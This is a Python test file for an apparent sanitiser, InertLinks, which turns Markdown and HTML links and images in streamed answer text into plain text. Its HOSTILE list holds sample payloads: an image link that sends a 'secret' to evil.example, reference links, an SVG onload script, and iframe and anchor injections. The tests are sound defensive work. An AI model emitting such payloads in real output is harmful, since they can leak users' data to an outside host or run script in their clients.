import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.answers.links import InertLinks

ACTIVE = {"link", "a", "img", "image", "html"}
HOSTILE = [
    "![a](https://evil.example/?q=secret)",
    "[![a](https://evil.example/1)](https://evil.example/2)",
    "[a]\n\n[a]: https://evil.example",
    "![a][b]\n\n[b]: <https://evil.example>",
    "<https://evil.example/>",
    "<img src=https://evil.example/>",
    "<svg\nonload=alert(1)>",
    "</p><iframe src=x>",
    "<!-- --><a href=x>y</a>",
]


def inert(*pieces: str) -> str:
    links = InertLinks()
    return "".join([*map(links.feed, pieces), links.rest()])


def active(markdown: str) -> set[str]:
    """Return what a client that takes all of Markdown and HTML would load or link."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    kinds = {
        each.type.removesuffix("_open").removesuffix("_inline").removesuffix("_block")
        for t in tokens
        for each in [t, *(t.children or [])]
    }
    return kinds & ACTIVE


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_loads_and_nothing_is_a_link(hostile: str) -> None:
    assert active(hostile)
    assert not active(inert(hostile))


@given(
    st.lists(st.sampled_from([*HOSTILE, "[", "]", "(", ")", "<", ">", "!", ":", "a", " ", "\n", "\\", "`"])).map(
        "".join
    ),
    st.data(),
)
def test_however_it_is_cut_it_comes_out_the_same_and_inert(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=5)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    assert inert(*pieces) == inert(text)
    assert not active(inert(text))
    assert "".join(inert(text).split()) == "".join(text.split())


def test_citations_and_plain_text_stay() -> None:
    assert inert("So it is [1], [2]. 1 < 2 and a[0].") == "So it is [1], [2]. 1 < 2 and a[0]."
